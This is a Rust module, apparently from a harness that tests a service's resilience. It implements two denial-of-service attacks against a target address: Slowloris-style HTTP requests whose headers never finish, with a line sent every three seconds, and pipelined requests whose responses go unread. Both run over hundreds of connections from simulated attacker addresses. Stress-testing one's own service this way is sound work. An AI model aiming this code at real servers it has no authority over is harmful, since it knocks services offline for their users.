//! Heads that never end, a line every three seconds; and pipelined questions whose answers nobody reads.

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::AsyncWriteExt as _;
use tokio::time::sleep;

use crate::attack::client::{Request, connect, send};
use crate::attack::crew::{Crew, Pace};
use crate::attack::group;
use crate::attack::scene::{Scene, attacker};

const ADDRESSES: u16 = 10;
/// Connections of an address with an unfinished head, and with unread answers.
const HEADS: u16 = 200;
const UNREAD: u16 = 50;
/// Questions on a connection whose answers are not read: some MB of answers.
const PIPELINED: usize = 32;
const OPENED_A_SECOND: f64 = 500.0;

pub fn enlist(scene: &Arc<Scene>, crew: &mut Crew) {
    let pace = Pace::new(OPENED_A_SECOND);
    for number in 0..ADDRESSES {
        let from = attacker(group::UNFINISHED, number);
        for _ in 0..scene.scaled(HEADS) {
            let (scene, pace) = (Arc::clone(scene), pace.clone());
            crew.works(move |_| heads(scene, pace, from));
        }
        for _ in 0..scene.scaled(UNREAD) {
            let (scene, pace) = (Arc::clone(scene), pace.clone());
            crew.works(move |_| unread(scene, pace, from));
        }
    }
}

async fn heads(scene: Arc<Scene>, pace: Pace, from: Ipv4Addr) {
    loop {
        pace.turn().await;
        if let Ok(mut stream) = connect(from, scene.address, None).await {
            scene.count("head", "opened");
            let mut line = "GET /health HTTP/1.1\r\nhost: localhost\r\n";
            while stream.write_all(line.as_bytes()).await.is_ok() {
                line = "x-more: 1\r\n";
                sleep(Duration::from_secs(3)).await;
            }
            scene.count("head", "cut off");
        } else {
            scene.count("head", "unconnected");
        }
        sleep(Duration::from_secs(1)).await;
    }
}

async fn unread(scene: Arc<Scene>, pace: Pace, from: Ipv4Addr) {
    let request = Request::get("/openapi.json");
    loop {
        pace.turn().await;
        if let Ok(mut stream) = connect(from, scene.address, Some(4096)).await {
            scene.count("unread", "opened");
            for _ in 0..PIPELINED {
                if send(&mut stream, &request).await.is_err() {
                    break;
                }
            }
            // Until nothing can be written to it any more.
            while stream.write_all(b"G").await.is_ok() {
                sleep(Duration::from_secs(3)).await;
            }
            scene.count("unread", "cut off");
        } else {
            scene.count("unread", "unconnected");
        }
        sleep(Duration::from_secs(1)).await;
    }
}
